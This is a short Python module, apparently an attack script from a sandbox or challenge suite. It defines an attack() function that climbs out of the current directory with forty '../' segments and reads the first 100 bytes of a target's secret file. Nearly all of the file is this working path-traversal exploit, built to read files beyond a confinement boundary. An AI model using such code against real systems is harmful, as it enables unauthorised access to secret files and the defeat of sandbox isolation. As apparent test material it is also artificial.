"""Climb above the root with dots."""

from __future__ import annotations

import os

ORIGIN = "Path traversal, as old as chroot."
SEEN = "secret"


def attack(target):
    descriptor = os.open(".", os.O_RDONLY)
    path = "../" * 40 + target["secret_file"].lstrip("/")
    return os.read(os.open(path, os.O_RDONLY, dir_fd=descriptor), 100).decode()
